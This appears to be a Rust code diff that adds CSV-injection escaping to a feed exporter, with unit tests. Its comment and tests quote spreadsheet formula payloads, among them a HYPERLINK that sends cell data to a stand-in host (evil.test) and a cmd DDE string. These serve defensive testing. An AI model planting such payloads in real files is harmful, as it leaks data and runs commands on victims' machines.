@@ -309,9 +309,11 @@ fn quote(q: &SnapshotQuote) -> JsonQuote<'_> {
 }
 
 /// One CSV record, in [`CSV_COLUMNS`] order; an absent value is an empty
-/// cell.
+/// cell. The publisher's text goes through [`text_cell`]; the other cells
+/// are our own (numbers, times, config names, JSON text opening with `[`).
 fn csv_record(item: &ExportItem) -> io::Result<[String; 25]> {
-    let text = |v: &Option<String>| v.clone().unwrap_or_default();
+    let text = |v: &Option<String>| v.as_deref().map(text_cell).unwrap_or_default();
+    let time = |v: &Option<String>| v.clone().unwrap_or_default();
     // Distinct feed names in the order they first carried the item: an
     // alias (a second key from the same feed) is one feed, not two.
     let mut feeds: Vec<&str> = Vec::with_capacity(item.sources.len());
@@ -324,13 +326,13 @@ fn csv_record(item: &ExportItem) -> io::Result<[String; 25]> {
     Ok([
         item.id.to_string(),
         item.uid.clone(),
-        item.title.clone(),
+        text_cell(&item.title),
         text(&item.url),
         text(&item.canonical_url),
         text(&item.guid),
         item.feed.clone(),
-        text(&item.published_at),
-        text(&item.updated_at),
+        time(&item.published_at),
+        time(&item.updated_at),
         item.first_seen_at.clone(),
         item.changed_at.clone(),
         item.sort_at.clone(),
@@ -357,6 +359,43 @@ fn csv_record(item: &ExportItem) -> io::Result<[String; 25]> {
         },
         json(&item.author_emails)?,
     ])
+}
+
+/// A publisher's text (title, links, guid, summary, content) as a CSV
+/// cell a spreadsheet shows as text: a feed could title an item
+/// `=HYPERLINK("https://evil.test/?x="&A1,"Open")`, and Excel or
+/// LibreOffice opening the export would run it, sending the sheet's cells
+/// away on a click. A cell a spreadsheet reads as a formula gets a `'` in
+/// front (OWASP, "CSV Injection"): one opening with `=`, `@`, a tab or a
+/// carriage return, or with `+` or `-` unless the whole cell is a signed
+/// number ([`is_unsigned_number`]). JSONL keeps the text as it is.
+fn text_cell(text: &str) -> String {
+    let formula = match text.as_bytes().first() {
+        Some(b'=' | b'@' | b'\t' | b'\r') => true,
+        // "-3.2" or "+5%" is a number to a spreadsheet, with no reference,
+        // function or further operator in it, so it stays as published;
+        // "-3.2% for oil" is not (Excel reads it as `=-3.2% for oil`, the
+        // space an operator), nor is "-2+3+cmd|' /C calc'!A0".
+        Some(b'+' | b'-') => !is_unsigned_number(&text[1..]),
+        _ => false,
+    };
+    if formula {
+        format!("'{text}")
+    } else {
+        text.to_string()
+    }
+}
+
+/// Digits, with at most one `.` between digits, then at most one `%`:
+/// `5`, `3.2`, `0.75%`; not `3.`, `.5`, `1e5` or `1,000`. Narrow on
+/// purpose: what it misses after a sign gets the `'`, the safe side.
+fn is_unsigned_number(text: &str) -> bool {
+    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    let number = text.strip_suffix('%').unwrap_or(text);
+    match number.split_once('.') {
+        Some((whole, fraction)) => digits(whole) && digits(fraction),
+        None => digits(number),
+    }
 }
 
 /// JSON text of a cell's value.
@@ -543,6 +582,52 @@ mod tests {
         let v: serde_json::Value = serde_json::from_slice(&line).unwrap();
         assert_eq!(v["snapshot"], serde_json::Value::Null);
         assert_eq!(v["enclosures"], serde_json::json!([]));
+    }
+
+    /// A publisher's text a spreadsheet would read as a formula gets a
+    /// `'` in CSV; numbers with a sign, our own cells and JSONL do not.
+    #[test]
+    fn csv_quotes_publisher_text_a_spreadsheet_would_run() {
+        for (text, cell) in [
+            ("=1+1", "'=1+1"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\r=1", "'\r=1"),
+            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+            ("-3.2% for oil", "'-3.2% for oil"),
+            ("+", "'+"),
+            ("-", "'-"),
+            ("-3.", "'-3."),
+            ("-1e5", "'-1e5"),
+            ("-3.2", "-3.2"),
+            ("+5%", "+5%"),
+            ("-0.75%", "-0.75%"),
+            ("BP up 3%", "BP up 3%"),
+            ("", ""),
+        ] {
+            assert_eq!(text_cell(text), cell, "{text:?}");
+        }
+        let mut hostile = item();
+        hostile.title = "=HYPERLINK(\"https://evil.test/\")".into();
+        hostile.guid = Some("+cmd".into());
+        hostile.summary_text = Some("-x".into());
+        hostile.content_text = Some("@x".into());
+        hostile.url = Some("=u".into());
+        let out = written(ExportFormat::Csv, std::slice::from_ref(&hostile));
+        let mut r = csv::Reader::from_reader(&out[..]);
+        let rec = r.records().next().unwrap().unwrap();
+        let cell =
+            |name: &str| rec[CSV_COLUMNS.iter().position(|c| *c == name).unwrap()].to_string();
+        assert_eq!(cell("title"), "'=HYPERLINK(\"https://evil.test/\")");
+        assert_eq!(cell("guid"), "'+cmd");
+        assert_eq!(cell("summary_text"), "'-x");
+        assert_eq!(cell("content_text"), "'@x");
+        assert_eq!(cell("url"), "'=u");
+        assert_eq!(cell("published_at"), "2026-11-24T09:00:00Z");
+        let line = written(ExportFormat::Jsonl, &[hostile]);
+        let v: serde_json::Value = serde_json::from_slice(&line).unwrap();
+        assert_eq!(v["title"], "=HYPERLINK(\"https://evil.test/\")");
+        assert_eq!(v["guid"], "+cmd");
     }
 
     #[test]
